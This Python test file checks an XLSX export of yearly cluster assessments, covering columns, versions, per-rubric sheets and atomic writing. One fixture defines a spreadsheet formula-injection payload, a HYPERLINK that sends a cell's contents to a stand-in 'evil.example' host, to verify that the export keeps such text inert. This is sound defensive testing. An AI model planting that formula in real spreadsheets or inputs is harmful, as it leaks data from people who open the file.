"""The year's assessments as XLSX, read back with openpyxl: one row per cluster, a column per
criterion, "n/a" and empty cells, no formulas, one sheet per rubric version, atomic writing."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
import pytest

from app.db import assessments as a
from app.db import directory as d
from app.db.database import Database
from app.domain.records import ClusterInput, OfficerInput
from app.errors import KnownError
from app.reports.assessment_export import FIXED_COLUMNS, export_year_xlsx

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def data(db: Database) -> dict[str, int]:
    ane = d.create_officer(db, OfficerInput("@Ane Etxeberria", "ane@example.org"))
    gaia = d.create_cluster(db, ClusterInput("GAIA ICT & Electronics", "GAIA"))
    hegan = d.create_cluster(db, ClusterInput("HEGAN aerospace", "HEGAN"))
    evil = d.create_cluster(db, ClusterInput(EVIL_NAME, "-EVIL"))
    (template,) = a.list_templates(db)
    crits = template.criteria()

    # GAIA: final with every criterion 3 except the second (n/a), then amended: v2 scores 4 first
    g1 = a.create_assessment(db, gaia, 2026, assessor_id=ane)
    for c in crits:
        a.set_score(db, g1, c.id, 3)
    a.set_score(db, g1, crits[1].id, None, not_applicable=True)
    a.finalise(db, g1, now=dt.datetime(2026, 5, 4, 10, 30))
    g2 = a.amend(db, g1)
    a.set_score(db, g2, crits[0].id, 4)
    # HEGAN: a draft, two criteria scored
    h = a.create_assessment(db, hegan, 2026, assessor_id=ane)
    a.set_score(db, h, crits[0].id, 1)
    a.set_score(db, h, crits[8].id, 2)
    # a cluster whose name is a formula; last year's assessment is not exported
    e = a.create_assessment(db, evil, 2026)
    a.set_score(db, e, crits[0].id, 0)
    a.create_assessment(db, gaia, 2025, assessor_id=ane)
    return {"ane": ane, "gaia": gaia, "hegan": hegan, "evil": evil, "g1": g1, "g2": g2, "h": h}


def sheet_rows(path: Path, title: str | None = None) -> tuple[list[str], list[dict[str, object]]]:
    wb = openpyxl.load_workbook(path)
    ws = wb[title] if title else wb.worksheets[0]
    values = list(ws.iter_rows(values_only=True))
    header = [str(v) for v in values[0]]
    return header, [dict(zip(header, row, strict=True)) for row in values[1:]]


def test_one_row_per_cluster_with_a_column_per_criterion(
    db: Database, data: dict[str, int], tmp_path: Path
) -> None:
    out = export_year_xlsx(db, 2026, tmp_path / "a.xlsx")
    assert out == tmp_path / "a.xlsx"
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Assessments 2026"]
    ws = wb.worksheets[0]
    assert ws.freeze_panes == "C2"
    assert all(c.font.bold for c in ws[1])

    header, rows = sheet_rows(out)
    (template,) = a.list_templates(db)
    crits = template.criteria()
    assert header[: len(FIXED_COLUMNS)] == [
        "Cluster",
        "Short name",
        "Version",
        "Status",
        "Assessor",
        "Finalised",
        "Overall %",
    ]
    first = f"{crits[0].code} {crits[0].name}"
    assert first == "INT-RIS3 Alignment with RIS3 and the Basque plans"
    assert header[len(FIXED_COLUMNS)] == first
    assert len(header) == len(FIXED_COLUMNS) + 28 + 4
    assert header[-4:] == [
        "Internationalisation %",
        "Technological Innovation %",
        "Business Innovation %",
        "Talent %",
    ]

    assert [r["Short name"] for r in rows] == ["-EVIL", "GAIA", "HEGAN"]  # by cluster name
    evil, gaia, hegan = rows
    second = f"{crits[1].code} {crits[1].name}"
    # GAIA: only its latest version (the amendment, a draft)
    assert (gaia["Version"], gaia["Status"], gaia["Assessor"]) == (2, "Draft", "@Ane Etxeberria")
    assert gaia[first] == 4 and gaia[second] == "n/a"
    assert gaia["Finalised"] is None
    assert gaia["Internationalisation %"] == pytest.approx(
        round(100 * (4 * 1.5 + 3 * 5) / 6.5 / 4, 1)
    )
    # HEGAN: unscored criteria are empty, sections without a score too
    assert hegan[first] == 1 and hegan[second] is None
    assert hegan["Overall %"] == pytest.approx(round(100 * (1 * 1.5 + 2 * 1.5) / 3 / 4, 1))
    assert hegan["Business Innovation %"] is None
    # the formula-like texts stay text
    assert evil["Cluster"] == EVIL_NAME and evil[first] == 0
    assert evil["Assessor"] in ("", None)


def test_no_cell_is_a_formula(db: Database, data: dict[str, int], tmp_path: Path) -> None:
    out = export_year_xlsx(db, 2026, tmp_path / "a.xlsx")
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {EVIL_NAME, "-EVIL", "@Ane Etxeberria"} <= texts


def test_every_version_on_request(db: Database, data: dict[str, int], tmp_path: Path) -> None:
    out = export_year_xlsx(db, 2026, tmp_path / "a.xlsx", latest_only=False)
    _header, rows = sheet_rows(out)
    gaia = [r for r in rows if r["Short name"] == "GAIA"]
    assert [(r["Version"], r["Status"]) for r in gaia] == [(2, "Draft"), (1, "Final")]
    assert gaia[1]["Finalised"] == dt.datetime(2026, 5, 4, 10, 30)


def test_each_rubric_version_on_its_own_sheet(
    db: Database, data: dict[str, int], tmp_path: Path
) -> None:
    (v1,) = a.list_templates(db)
    v2 = a.copy_template(db, v1.id)
    section = a.get_template(db, v2).sections[0]
    new = a.add_criterion(db, section.id, name="Cross-border projects", code="INT-XB", weight=1)
    mafex = d.create_cluster(db, ClusterInput("MAFEX railway", "MAFEX"))
    m = a.create_assessment(db, mafex, 2026, template_id=v2)
    a.set_score(db, m, new, 3)

    out = export_year_xlsx(db, 2026, tmp_path / "a.xlsx")
    assert openpyxl.load_workbook(out).sheetnames == ["Rubric v1", "Rubric v2"]
    h1, rows1 = sheet_rows(out, "Rubric v1")
    h2, rows2 = sheet_rows(out, "Rubric v2")
    assert [r["Short name"] for r in rows1] == ["-EVIL", "GAIA", "HEGAN"]
    assert [r["Short name"] for r in rows2] == ["MAFEX"]
    assert "INT-XB Cross-border projects" in h2 and "INT-XB Cross-border projects" not in h1
    assert rows2[0]["INT-XB Cross-border projects"] == 3


def test_refusals_leave_the_existing_file(
    db: Database, data: dict[str, int], tmp_path: Path
) -> None:
    target = tmp_path / "keep.xlsx"
    target.write_bytes(b"good")
    with pytest.raises(KnownError, match="No 2030 action plan has been assessed"):
        export_year_xlsx(db, 2030, target)
    with pytest.raises(KnownError, match=r"\.xlsx"):
        export_year_xlsx(db, 2026, tmp_path / "a.csv")
    with pytest.raises(KnownError, match="does not exist"):
        export_year_xlsx(db, 2026, tmp_path / "missing" / "a.xlsx")
    assert target.read_bytes() == b"good"
    left = [p.name for p in tmp_path.iterdir() if not p.name.startswith("clusterdesk.sqlite")]
    assert left == ["keep.xlsx"]  # no temporary file left behind
